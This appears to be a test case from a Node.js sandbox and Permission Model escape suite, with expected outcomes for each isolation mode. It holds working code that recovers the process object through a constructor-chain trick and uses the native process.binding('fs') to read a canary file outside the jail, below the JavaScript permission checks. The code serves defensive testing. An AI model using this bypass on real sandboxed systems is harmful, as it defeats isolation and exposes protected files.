/*---
id: pm-process-binding
title: Read canary.txt through process.binding('fs'), below the JavaScript fs checks
category: permission-model
goal: Reach the native fs binding directly and read canary.txt outside the jail without going through node:fs.
technique: process.binding('fs').readFileUtf8(path, O_RDONLY), falling back to binding.open + fs.readSync; the deprecated process.binding must be refused (or the native layer must check) under the Permission Model.
references: CVE-2023-32558, CVE-2023-32559, https://nodejs.org/api/deprecations.html#DEP0111, https://nodejs.org/api/permissions.html
expect: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped; process = escaped; process+vm = escaped
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
const results = {};
if (P) {
  const fs = P.getBuiltinModule('node:fs');
  const runDir = P.cwd().endsWith('/jail') ? P.cwd().slice(0, -'/jail'.length) : P.cwd();
  const target = `${runDir}/canary.txt`;
  let binding;
  try {
    binding = P.binding('fs');
    results.binding = Object.keys(binding).length + ' functions';
  } catch (e) {
    results.binding = e.code || e.message;
  }
  if (binding) {
    try {
      results.readFileUtf8 = binding.readFileUtf8(target, fs.constants.O_RDONLY).trim();
    } catch (e) {
      results.readFileUtf8 = e.code || e.message;
    }
    try {
      const fd = binding.open(target, fs.constants.O_RDONLY, 0o666);
      const buf = P.getBuiltinModule('node:buffer').Buffer.alloc(64);
      results.open = buf.toString('utf8', 0, fs.readSync(fd, buf)).trim();
      fs.closeSync(fd);
    } catch (e) {
      results.open = e.code || e.message;
    }
  }
}
console.log('process.binding("fs"):', P ? JSON.stringify(results) : 'no process object');
results;
